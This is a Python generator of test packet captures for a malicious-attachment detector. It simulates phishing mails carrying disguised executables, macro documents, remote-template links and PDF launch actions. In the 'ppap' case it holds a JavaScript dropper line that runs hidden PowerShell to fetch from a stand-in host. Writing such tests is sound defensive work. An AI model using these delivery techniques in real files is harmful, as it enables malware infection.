    docs = pg.zip_archive([("invoice.pdf.exe", pe), ("readme.txt", b"Invoice April\r\n")], rng=r,
                          mtime=(2024, 4, 22, 20, 1, 2))
    rtlo = "invoice_\u202efdp.exe"
    m1 = message(r, "it-support@helpdesk.example", "ito@" + DOMAIN, "Backup agent update",
                 "Run the attached agent.", [("backup-agent", "application/octet-stream",
                                              agent)])
    m2 = message(r, "billing@vendor.example", "ito@" + DOMAIN, "Invoice documents",
                 "See attached.", [("documents.zip", "application/zip", docs),
                                   (rtlo, "application/octet-stream", pe)])
    # the ELF message twice on one connection: one alert for that file on that flow
    g.smtp("203.0.113.90", "mail.helpdesk.example", "it-support@helpdesk.example",
           ["ito@" + DOMAIN], [m1, m1, m2])
    g.pop3("192.168.10.27", "ito", [m1, m2])
    return g, [("backup-agent", "", agent), ("documents.zip", "", docs),
               (rtlo, "", pe)]


def case_containers():
    g = Gen(63)
    r = g.rng
    shortcut = lnk()
    atts = [("invoice.lnk", "application/octet-stream", shortcut),
            ("document.iso", "application/octet-stream", iso("INVOICE.LNK", shortcut)),
            ("notes.one", "application/octet-stream", onenote(r, HTA)),
            ("payment.js", "application/javascript", JS),
            ("files.7z", "application/x-7z-compressed", seven_zip_aes(r)),
            ("backup.rar", "application/vnd.rar", rar5_encrypted(r))]
    msg = message(r, "delivery@parcel-notice.example", "yamada@" + DOMAIN,
                  "Delivery failed: your parcel", "Open the attachment for details.", atts)
    g.smtp("192.0.2.77", "smtp.parcel-notice.example", "delivery@parcel-notice.example",
           ["yamada@" + DOMAIN], [msg])
    return g, atts


def case_http():
    g = Gen(64)
    r = g.rng
    pe = pg.pe_executable(r, size=8192)
    agent = pg.pe_executable(r, size=6144)
    html = (b"<!DOCTYPE html><html><head><title>Downloads</title><script src=\"/app.js\">"
            b"</script></head><body><a href=\"/downloads/setup.exe\">setup</a></body></html>\n")
    g.http("192.168.10.21", "203.0.113.77", [
        ("/downloads/", 200, [("Content-Type", "text/html; charset=utf-8")], html),
        ("/app.js", 200, [("Content-Type", "application/javascript")],
         b"document.title = 'Downloads';\n"),
        ("/logo.png", 200, [("Content-Type", "image/png")], pg.png_image(r, 8, 8)),
        ("/manual.pdf", 200, [("Content-Type", "application/pdf")], PDF),
        ("/downloads/old.exe", 404, [("Content-Type", "text/html")],
         b"<html><body>Not Found</body></html>\n"),
        ("/downloads/setup.exe", 200, [("Content-Type", "application/x-msdownload")], pe),
        ("/downloads/agent.exe", 200, [("Content-Type", "application/octet-stream"),
                                       ("Content-Encoding", "gzip")],
         gzip.compress(agent, mtime=0)),
    ], "files.example.net")
    g.http("192.168.10.22", "198.51.100.88", [
        ("/d?id=4711", 200, [("Content-Type", "application/octet-stream"),
                             ("Content-Disposition", 'attachment; filename="invoice.pdf.exe"')],
         pe),
    ], "share.example.org")
    return g, [("setup.exe", "", pe), ("agent.exe", "", agent)]


def case_benign():
    g = Gen(65)
    r = g.rng
    pdfzip = pg.zip_archive([("invoice-1.pdf", PDF), ("invoice-2.pdf", PDF)], rng=r,
                            mtime=(2024, 4, 22, 11, 0, 0))
    atts = [("minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
             "document", docx(r, "Minutes")),
            ("figures.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             xlsx(r)),
            ("quote.pdf", "application/pdf", PDF),
            ("map.png", "image/png", pg.png_image(r, 12, 12)),
            ("photo.jpg", "image/jpeg", jpeg(r)),
            ("notes.txt", "text/plain", b"Meeting at 10:00.\r\n"),
            ("list.csv", "text/csv", b"name,qty\r\npen,3\r\n"),
            ("invoices.zip", "application/zip", pdfzip),
            ("\u898b\u7a4d\u66f8.pdf", "application/pdf", PDF)]
    msg = message(r, "sales@partner-a.example", "sato@" + DOMAIN, "Documents for the meeting",
                  "Attached are the documents.", atts)
    g.smtp("198.51.100.25", "mx.partner-a.example", "sales@partner-a.example",
           ["sato@" + DOMAIN], [msg])
    g.pop3("192.168.10.21", "sato", [msg])
    g.imap("192.168.10.26", "sato", [msg])
    return g, atts


def case_xlm():
    g = Gen(66)
    r = g.rng
    atts = [("Q3-report.xls", "application/vnd.ms-excel",
             xls_sheets(r, [(b"Sheet1", 0, 0), (b"Auto_Open", 2, 1)])),
            ("Q3-data.xls", "application/vnd.ms-excel",
             xls_sheets(r, [(b"Sheet1", 0, 0), (b"Lookup", 1, 0)]))]
    msg = message(r, "finance@partner-b.example", "kobayashi@" + DOMAIN, "Q3 report",
                  "Please see the attached report.", atts)
    g.smtp("203.0.113.45", "mx.partner-b.example", "finance@partner-b.example",
           ["kobayashi@" + DOMAIN], [msg])
    return g, atts


def case_active():
    g = Gen(67)
    r = g.rng
    # an Equation Editor object's native data: an EQNOLEFILEHDR and the start of an MTEF
    # record, inert (no shellcode: the detector judges the class, not the bytes)
    eq = struct.pack("<HIHII", 0x1C, 0x00020000, 0xC49E, 0xA9, 0) + bytes(r.randrange(256)
                                                                          for _ in range(48))
    atts = [("quote.rtf", "application/rtf", rtf_with_object("Equation.3", eq)),
            ("order.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
             "document", docx_with_rel(r, "word/_rels/settings.xml.rels", "attachedTemplate",
                                       "http://203.0.113.66/templates/order.dotm")),
            ("invoice.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
             "document", docx_with_rel(r, "word/_rels/document.xml.rels", "oleObject",
                                       "mhtml:http://203.0.113.66/inv.html!x-usc:"
                                       "http://203.0.113.66/inv.html")),
            ("letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
             "document", docx_with_rel(r, "word/_rels/settings.xml.rels", "attachedTemplate",
                                       "file:///C:/Users/kato/AppData/Roaming/Microsoft/"
                                       "Templates/Letter.dotm")),
            ("figures.rtf", "application/rtf",
             rtf_with_object("Excel.Sheet.8", xls_sheets(r, [(b"Sheet1", 0, 0)]),
                             "Quarterly figures")),
            ("payment.html", "text/html", smuggling_page(
                pg.zip_archive([("payment.pdf.lnk", b"inert test content\r\n")], rng=r,
                               mtime=(2024, 4, 22, 9, 45, 0)), "payment.zip")),
            ("logo.svg", "image/svg+xml",
             b'<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16">'
             b'<circle cx="8" cy="8" r="6" fill="#2a6"/></svg>\n'),
            ("statement.pdf", "application/pdf", pdf_with_action(
                b"/S /Launch /Win << /F (cmd.exe) /P (/c start /min powershell -w hidden "
                b"-c echo mamori-test) >>")),
            ("manual.pdf", "application/pdf", pdf_with_action(
                b"/S /Launch /F (chapter2.pdf) /NewWindow true")),
            # a Common Controls ActiveX object (the class CVE-2012-0158 documents embed); its
            # native data is an inert stand-in, the detector judges the class
            ("po.rtf", "application/msword",
             rtf_with_object("MSComctlLib.TreeCtrl.2", bytes(r.randrange(256) for _ in range(64)),
                             "Purchase order")),
            # the launch action of statement.pdf, hidden in a compressed object stream
            ("notice.pdf", "application/pdf", pdf_objstm_with_action(
                b"/S /Launch /Win << /F (cmd.exe) /P (/c start /min powershell -w hidden "
                b"-c echo mamori-test) >>"))]
    msg = message(r, "sales@partner-c.example", "takahashi@" + DOMAIN, "Quotation and order",
                  "Please find the quotation and the order form attached.", atts)
    g.smtp("198.51.100.61", "mx.partner-c.example", "sales@partner-c.example",
           ["takahashi@" + DOMAIN], [msg])
    return g, atts


def doc_with_macros(rng):
    """A Word 97-2003 document with a VBA project (inert: the macro prints a word)."""
    return pg.ole_cfb({
        "WordDocument": b"\xec\xa5\xc1\x00" + bytes(rng.getrandbits(8) for _ in range(1200)),
        "1Table": bytes(rng.getrandbits(8) for _ in range(500)),
        "Macros/PROJECT": b'ID="{6B1C0F3E-2B7D-4E9A-9C3F-7D1E2A4B6C8E}"\r\n'
                          b'Document=ThisDocument/&H00000000\r\n',
        "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "Macros/VBA/ThisDocument": pg.ovba_compress(
            b'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n'
            b'    Debug.Print "mamori test"\r\nEnd Sub\r\n'),
    })


def case_password():
    """Encrypted ZIPs whose password is in the message (the Emotet mail), one delivery each."""
    g = Gen(71)
    r = g.rng
    mt = (2024, 4, 22, 17, 48, 6)
    jis = "\u53d6\u5f15\u5148\u5404\u4f4d\n\n\u8acb\u6c42\u66f8\u3092\u304a\u9001\u308a\u3057\u307e\u3059\u3002\n" \
          "\u30d1\u30b9\u30ef\u30fc\u30c9\uff1a0423\n"
    ppap = "\u30d1\u30b9\u30ef\u30fc\u30c9\u306f\u5225\u30e1\u30fc\u30eb\u3067\u304a\u9001\u308a\u3057\u307e\u3059\u3002\n"
    mails = [
        # (client, sender, recipient, subject, text or text_part, attachments)
        ("198.51.100.71", "billing@partner-d.example", "sato", "Invoice 7741",
         "Please see the attached invoice.\r\nArchive password: ZX81\r\n",
         [("Invoice_7741.zip", "application/zip",
           pg.zip_archive([("Invoice_7741.doc", doc_with_macros(r))], password="ZX81", rng=r,
                          mtime=mt))]),
        ("198.51.100.72", "keiri@partner-e.example", "suzuki", "Re: invoice",
         ("text/plain; charset=ISO-2022-JP", "base64", jis.encode("iso2022_jp")),
         [("seikyu_0423.zip", "application/zip",
           pg.zip_archive([("seikyu_0423.pdf.exe", pg.pe_executable(r, size=4096))],
                          password="0423", rng=r, mtime=mt))]),
        ("198.51.100.73", "notice@parcel-f.example", "ito", "Delivery failed",
         ("text/html; charset=UTF-8", "quoted-printable",
          b"<html><body><p>We could not deliver your parcel.</p>"
          b"<p>Archive password: <b>k7Qm</b></p></body></html>"),
         [("parcel.zip", "application/zip",
           pg.zip_archive([("label.pdf.lnk", lnk())], password="k7Qm", rng=r, mtime=mt))]),
        ("198.51.100.74", "eigyo@partner-g.example", "kato", "Quotation",
         "\u304a\u898b\u7a4d\u66f8\u3092\u304a\u9001\u308a\u3057\u307e\u3059\u3002\n" + ppap,
         [("mitsumori.zip", "application/zip",
           pg.zip_archive([("mitsumori.xlsx", xlsx(r))], password="Mt-2024", rng=r,
                          mtime=mt))]),
        ("198.51.100.75", "soumu@partner-h.example", "watanabe", "Minutes",
         "Minutes attached. Password: mn42\r\n",
         [("minutes.zip", "application/zip",
           pg.zip_archive([("minutes.txt", b"Minutes of the April meeting.\r\n" * 20)],
                          password="mn42", rng=r, mtime=mt))]),
    ]
    atts = []
    for client, frm, user, subject, text, files in mails:
        if isinstance(text, tuple):
            msg = message(r, frm, user + "@" + DOMAIN, subject, "", files, text_part=text)
        else:
            msg = message(r, frm, user + "@" + DOMAIN, subject, text, files)
        g.smtp(client, "mx." + frm.split("@")[1], frm, [user + "@" + DOMAIN], [msg])
        atts += files
    return g, atts


def case_ppap():
    """Encrypted ZIPs whose password follows in a second mail from the same sender (the
    Japanese "PPAP" habit), delivered by SMTP and retrieved by POP3."""
    g = Gen(83)
    r = g.rng
    mt = (2024, 4, 22, 17, 48, 6)
    later = "\u30d1\u30b9\u30ef\u30fc\u30c9\u306f\u5225\u30e1\u30fc\u30eb\u3067\u304a\u9001\u308a\u3057\u307e\u3059\u3002\n"
    pw_word = "\u30d1\u30b9\u30ef\u30fc\u30c9"  # "password"
    notice = "\u30d1\u30b9\u30ef\u30fc\u30c9\u306e\u304a\u77e5\u3089\u305b"  # password notice
    atts = []

    def pair(frm, to, subject, name, inner, password):
        z = pg.zip_archive(inner, password=password, rng=r, mtime=mt)
        files = [(name, "application/zip", z)]
        atts.extend(files)
        first = message(r, frm, to, subject, "\u6dfb\u4ed8\u3092\u3054\u78ba\u8a8d\u304f\u3060\u3055\u3044\u3002\n" + later,
                        files)
        second = message(r, frm, to, notice, "%s\uff1a%s\n" % (pw_word, password), [])
        return first, second

    # 1. an order form with macros, its password in the next SMTP connection
    m1, p1 = pair("order@partner-j.example", "yamada@" + DOMAIN, "Order form",
                  "chumon_0611.zip", [("chumon_0611.doc", doc_with_macros(r))], "Ha7-wq3T")
    g.smtp("198.51.100.81", "mx.partner-j.example", "order@partner-j.example",
           ["yamada@" + DOMAIN], [m1])
    g.smtp("198.51.100.81", "mx.partner-j.example", "order@partner-j.example",
           ["yamada@" + DOMAIN], [p1])
    # 2. the same habit with a harmless file, both messages in one connection: opened, quiet
    m2, p2 = pair("eigyo@partner-j.example", "yamada@" + DOMAIN, "Quotation",
                  "mitsumori_0612.zip", [("mitsumori_0612.pdf", PDF)], "Pq4-Zx8m")
    g.smtp("198.51.100.81", "mx.partner-j.example", "eigyo@partner-j.example",
           ["yamada@" + DOMAIN], [m2, p2])
    # 3. the right password from another sender opens nothing
    m3, _ = pair("billing@partner-k.example", "kimura@" + DOMAIN, "Invoice",
                 "seikyu_0613.zip", [("seikyu_0613.xlsm", xlsm(r))], "Lm2-Kd9v")
    p3 = message(r, "info@other-l.example", "kimura@" + DOMAIN, notice,
                 "%s\uff1aLm2-Kd9v\n" % pw_word, [])
    g.smtp("198.51.100.82", "mx.partner-k.example", "billing@partner-k.example",
           ["kimura@" + DOMAIN], [m3])
    g.smtp("198.51.100.83", "mx.other-l.example", "info@other-l.example",
           ["kimura@" + DOMAIN], [p3])
    # 4. a PC fetches an archive and its password mail by POP3
    m4, p4 = pair("keiri@partner-m.example", "inoue@" + DOMAIN, "Invoice 0613",
                  "invoice_0613.zip", [("invoice_0613.pdf.exe", pg.pe_executable(r, size=4096))],
                  "Rt5-Wn2e")
    g.pop3("192.168.10.31", "inoue", [m4, p4])
    # 5. and by IMAP, the password this time in the subject as well (not shown then)
    m5, _ = pair("soumu@partner-n.example", "ueda@" + DOMAIN, "Schedule",
                 "schedule.zip", [("schedule.pdf.js", b"var s=new ActiveXObject('WScript.Shell');"
                                   b"s.Run('powershell -w hidden -c iwr http://203.0.113.9/a');")],
                 "Vb8-Ns1k")
    p5 = message(r, "soumu@partner-n.example", "ueda@" + DOMAIN, "PW: Vb8-Ns1k",
                 "%s\uff1aVb8-Ns1k\n" % pw_word, [])
    g.imap("192.168.10.32", "ueda", [m5, p5])
    # 6. the password from the sender's company's PPAP system (another address of its domain)
    m6, _ = pair("hanbai@partner-p.example", "ono@" + DOMAIN, "Delivery note",
                 "nouhin_0614.zip", [("nouhin_0614.xlsm", xlsm(r))], "Gk3-Tz7y")
    p6 = message(r, "PPAP System <ppap-notice@partner-p.example>", "ono@" + DOMAIN, notice,
                 "%s\uff1aGk3-Tz7y\n" % pw_word, [])
    g.smtp("198.51.100.84", "mx.partner-p.example", "hanbai@partner-p.example",
           ["ono@" + DOMAIN], [m6])
    g.smtp("198.51.100.85", "ppap.partner-p.example", "ppap-notice@partner-p.example",
           ["ono@" + DOMAIN], [p6])
    return g, atts


CASES = {"office": case_office, "exec": case_exec, "containers": case_containers,
         "http": case_http, "benign": case_benign, "xlm": case_xlm, "active": case_active,
         "password": case_password, "dde": case_dde, "ppap": case_ppap}


# ----------------------------------------------------------------------------- fuzz seeds


def demo_attachments(path):
    """The attachments of the SMTP deliveries in a classic pcap (client streams to port 25,
    in sequence order), via Python's email parser."""
    streams = {}
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack("<I", data[:4])[0]
    if magic not in (0xA1B2C3D4, 0xA1B23C4D):
        return []
    pos = 24
    while pos + 16 <= len(data):
        _, _, incl, _ = struct.unpack("<IIII", data[pos:pos + 16])
        pkt = data[pos + 16:pos + 16 + incl]
        pos += 16 + incl
        if len(pkt) < 14 + 20 or pkt[12:14] != b"\x08\x00":
            continue
        ip = pkt[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 6:
            continue
        tcp = ip[ihl:]
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        off = (tcp[12] >> 4) * 4
        payload = tcp[off:struct.unpack("!H", ip[2:4])[0] - ihl]
        if dport == 25 and payload:
            streams.setdefault((ip[12:16], sport), {})[seq] = payload
    out = []
    for segs in streams.values():
        stream = b"".join(segs[k] for k in sorted(segs))
        start = stream.find(b"\r\n", stream.find(b"DATA\r\n")) + 2
        end = stream.find(b"\r\n.\r\n", start)
        if start <= 1 or end < 0:
            continue
        msg = email.message_from_bytes(stream[start:end].replace(b"\r\n..", b"\r\n."),
                                       policy=email.policy.default)
        for part in msg.iter_attachments():
            out.append((part.get_filename(), part.get_content()))
    return out


def write_corpus(root, files):
    d = os.path.join(root, "fuzz", "corpus", "zipscan")
    os.makedirs(d, exist_ok=True)
    for name, data in files:
        safe = "".join(c if (c.isascii() and c.isalnum()) or c in "._-" else "_" for c in name)
        # header: limits 0x1f (depth 4, 256 entries, 64 KiB entries, 1 MiB budget), whole file,
        # the first 16 bytes also parsed as a name; archives whose password is "0423" (one of
        # the target's fixed passwords) once more with passwords on (byte 1 bit 1)
        with open(os.path.join(d, safe), "wb") as f:
            f.write(b"\x1f\x00\x10" + data)
        if "0423" in name and name.endswith(".zip"):
            with open(os.path.join(d, "pw_" + safe), "wb") as f:
                f.write(b"\x1f\x02\x10" + data)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--root", default=os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    ap.add_argument("--no-corpus", action="store_true")
    args = ap.parse_args()
    seeds = []
    for name, fn in CASES.items():
        g, files = fn()
        d = os.path.join(args.root, "tests", "pcap", "dt_attachment_" + name)
        os.makedirs(d, exist_ok=True)
        g.cap.write_pcap(os.path.join(d, "input.pcap"))
        seeds += [(n, data) for n, _, data in files]
    if not args.no_corpus:
        demo = os.path.join(args.root, "demo", "demo.pcap")
        seeds += [("demo_" + n, data) for n, data in demo_attachments(demo)
                  if n in ("invoice_0423.zip", "report.docm", "scan.pdf.exe")]
        write_corpus(args.root, seeds)


if __name__ == "__main__":
    main()
